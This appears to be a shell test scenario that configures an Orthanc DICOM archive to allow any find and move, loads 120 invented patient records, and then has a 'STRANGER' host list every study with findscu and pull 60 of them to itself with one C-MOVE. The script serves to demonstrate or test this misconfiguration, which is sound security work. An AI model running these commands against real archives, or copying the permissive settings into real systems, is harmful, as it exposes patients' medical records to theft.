# A scripted theft: a stranger asks Orthanc for every patient, without any restricting key, and gets 120 answers; then
# has 60 of their studies sent to itself by one C-MOVE.
cat >orthanc.json <<'JSON'
{ "Name": "INVENTED", "StorageDirectory": "orthanc-storage", "IndexDirectory": "orthanc-storage",
  "HttpServerEnabled": false, "DicomServerEnabled": true, "DicomAet": "ORTHANC", "DicomPort": 4242,
  "DicomCheckCalledAet": true, "DicomAlwaysAllowStore": true, "DicomAlwaysAllowFind": true, "DicomAlwaysAllowMove": true,
  "DicomScuTimeout": 30, "DicomModalities": { "thief": [ "STRANGER", "10.20.30.66", 11112 ] } }
JSON
rm -rf orthanc-storage many
mkdir -p many
for number in $(seq 101 220); do
  sed -e "s/@@/$number/g" "$here/objects/many/patient.template" >many/patient.dump
  dump2dcm -q +te many/patient.dump "many/$number.dcm"
done
serve archive orthanc 4242 Orthanc orthanc.json
on archive timeout 60 storescu -R -aet FILLER -aec ORTHANC 127.0.0.1 4242 many/*.dcm >"$logs/fill.log" 2>&1
serve stranger storescp 11112 storescp -v -aet STRANGER --ignore 11112
rolling
run stranger findscu findscu -S -aet STRANGER -aec ORTHANC -k 0008,0052=STUDY -k 0010,0020 -k 0020,000D 10.20.30.20 4242
studies=$(printf '\\2.25.8800%s' $(seq 101 160))
run stranger movescu movescu -S -aet STRANGER -aec ORTHANC -aem STRANGER -k 0008,0052=STUDY \
  -k "0020,000D=${studies:1}" 10.20.30.20 4242
